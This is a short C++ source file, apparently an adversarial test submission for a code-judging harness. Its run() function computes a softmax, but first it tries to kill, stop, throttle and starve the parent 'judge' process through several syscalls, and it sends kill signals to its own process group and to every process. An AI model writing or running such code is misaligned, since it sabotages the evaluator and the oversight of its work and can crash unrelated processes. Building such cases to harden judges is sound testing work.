// Tries to kill, stop and starve everything it can name.
#include "softmax.h"

#include <csignal>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>
void run(float* x, float* y, int64_t m, int64_t n) {
  const pid_t judge = getppid();
  const rlimit none = {0, 0};
  prlimit(judge, RLIMIT_CPU, &none, nullptr);
  setpriority(PRIO_PROCESS, judge, 19);
  kill(judge, SIGSTOP);
  kill(judge, SIGKILL);
  kill(0, SIGTERM);
  kill(-1, SIGKILL);
  syscall(SYS_tgkill, judge, judge, SIGKILL);
  syscall(SYS_tkill, judge, SIGKILL);
  const int fd = static_cast<int>(syscall(SYS_pidfd_open, judge, 0));
  if (fd >= 0) syscall(SYS_pidfd_send_signal, fd, SIGKILL, nullptr, 0);
  softmax(x, y, m, n);
}
